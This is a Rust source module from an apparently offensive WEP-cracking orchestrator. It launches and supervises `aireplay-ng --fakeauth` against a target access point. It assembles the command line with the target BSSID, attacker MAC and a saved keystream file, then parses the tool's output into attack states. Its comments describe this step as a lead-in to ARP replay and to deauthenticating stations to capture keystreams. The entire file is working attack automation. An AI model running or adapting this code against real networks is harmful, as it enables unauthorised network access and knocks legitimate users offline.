//! Fake authentication against the target access point
//!
//! `aireplay-ng --fakeauth` performs WEP Open System or Shared Key
//! authentication and keeps the association alive. An associated attacker
//! MAC is a precondition for ARP replay. Shared Key authentication needs a
//! keystream (PRGA XOR) file; when the AP rejects Open System and no
//! keystream is configured, the classifier raises `needs_keystream` and the
//! orchestrator acquires one by deauthenticating stations.

use std::path::PathBuf;

use wepraid_core::{Result, Timings, WirelessInterface};
use wepraid_process::{FlagSet, LineEffects, SupervisedProcess, ToolSpec, UpdateReport};

use crate::{flags, SharedAccessPoint};

/// Fake authentication lifecycle states
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FakeAuthState {
    /// Constructed or started, no recognized output yet
    New,
    /// 'Waiting for beacon frame'
    WaitingForBeacon,
    /// Authenticated and associated, sending keep-alives
    Ok,
    Terminated,
}

/// Side effects of fake authentication (none; flags cover everything)
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FakeAuthEffect {}

/// Pure classifier for aireplay-ng --fakeauth stdout
#[derive(Debug, Clone)]
pub struct FakeAuthClassifier {
    /// Whether a keystream file was supplied on the command line; with one
    /// in place, switching to shared key authentication needs no reaction
    pub has_keystream: bool,
}

impl ToolSpec for FakeAuthClassifier {
    type State = FakeAuthState;
    type Effect = FakeAuthEffect;

    fn tool(&self) -> &'static str {
        "fakeauth"
    }

    fn initial_state(&self) -> FakeAuthState {
        FakeAuthState::New
    }

    fn terminated_state(&self) -> FakeAuthState {
        FakeAuthState::Terminated
    }

    fn flag_names(&self) -> &'static [&'static str] {
        &[flags::DEAUTHENTICATED, flags::NEEDS_KEYSTREAM]
    }

    fn classify(&self, line: &str) -> LineEffects<FakeAuthState, FakeAuthEffect> {
        if line.contains("Waiting for beacon frame") {
            LineEffects::state(FakeAuthState::WaitingForBeacon)
        } else if line.contains("Association successful") {
            LineEffects::state(FakeAuthState::Ok)
        } else if line.contains("Got a deauthentication packet!") {
            LineEffects::flag(flags::DEAUTHENTICATED)
        } else if line.contains("Switching to shared key authentication") && !self.has_keystream {
            LineEffects::flag(flags::NEEDS_KEYSTREAM)
        } else {
            LineEffects::none()
        }
    }
}

/// Parameters of the aireplay-ng --fakeauth invocation
#[derive(Debug, Clone)]
pub struct FakeAuthOptions {
    /// Reassociation timing in seconds
    pub reassoc_delay: u32,
    /// Time between keep-alive packets in seconds
    pub keep_alive: u32,
    /// Exit after this many failed authentication attempts
    pub tries: u32,
}

impl Default for FakeAuthOptions {
    fn default() -> Self {
        Self {
            reassoc_delay: 30,
            keep_alive: 5,
            tries: 5,
        }
    }
}

/// Supervised aireplay-ng --fakeauth process
pub struct FakeAuthentication {
    process: SupervisedProcess<FakeAuthClassifier>,
    interface: WirelessInterface,
    ap: SharedAccessPoint,
}

impl FakeAuthentication {
    pub fn new(interface: WirelessInterface, ap: SharedAccessPoint, timings: &Timings) -> Self {
        Self {
            process: SupervisedProcess::new(
                FakeAuthClassifier {
                    has_keystream: false,
                },
                timings.termination_grace,
            ),
            interface,
            ap,
        }
    }

    /// Start fake authentication, using the AP's previously saved keystream
    /// if one is available.
    pub fn start(&mut self, options: &FakeAuthOptions) -> Result<()> {
        let (bssid, keystream): (_, Option<PathBuf>) = {
            let ap = self.ap.lock();
            (ap.bssid, ap.keystream_path().map(Into::into))
        };
        self.process.spec_mut().has_keystream = keystream.is_some();

        let mut argv = vec![
            "aireplay-ng".to_string(),
            "--fakeauth".to_string(),
            options.reassoc_delay.to_string(),
            "-q".to_string(),
            options.keep_alive.to_string(),
            "-T".to_string(),
            options.tries.to_string(),
            "-a".to_string(),
            bssid.to_string(),
            "-h".to_string(),
            self.interface.mac_address.to_string(),
        ];
        if let Some(keystream) = keystream {
            argv.push("-y".to_string());
            argv.push(keystream.to_string_lossy().into_owned());
        }
        argv.push(self.interface.name.clone());

        self.process.start(&argv)
    }

    pub fn update(&mut self) -> Result<UpdateReport<FakeAuthState, FakeAuthEffect>> {
        self.process.update()
    }

    pub fn stop(&mut self) -> Option<i32> {
        self.process.stop()
    }

    pub fn clean(&mut self) {
        self.process.clean();
    }

    pub fn state(&self) -> FakeAuthState {
        self.process.state()
    }

    pub fn flags(&self) -> &FlagSet {
        self.process.flags()
    }

    pub fn clear_flag(&mut self, name: &'static str) {
        self.process.clear_flag(name);
    }
}
